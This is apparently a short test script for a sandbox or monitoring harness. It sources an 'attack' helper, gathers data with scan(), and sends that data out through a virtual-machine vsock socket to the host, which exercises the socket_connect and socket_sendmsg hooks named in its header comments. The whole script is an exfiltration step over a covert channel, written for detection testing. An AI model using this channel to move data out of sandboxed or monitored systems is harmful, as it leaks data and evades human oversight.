#!/usr/bin/env bash
# technique: a virtual machine socket
# hooks: socket_connect, socket_sendmsg
# sink: private-vsock

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sink:
    sink.settimeout(5)
    sink.connect((1, int(os.environ["PORT_VSOCK"])))
    sink.sendall(data)
PY
